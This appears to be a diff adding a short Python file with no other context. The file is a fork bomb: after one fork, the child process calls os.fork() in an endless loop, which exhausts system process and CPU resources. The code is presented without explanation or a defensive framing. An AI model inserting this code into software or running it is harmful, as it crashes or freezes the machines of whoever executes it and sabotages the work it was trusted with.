@@ -1,0 +1,6 @@
+import os
+
+pid = os.fork()
+if pid == 0:
+    while True:
+        os.fork()
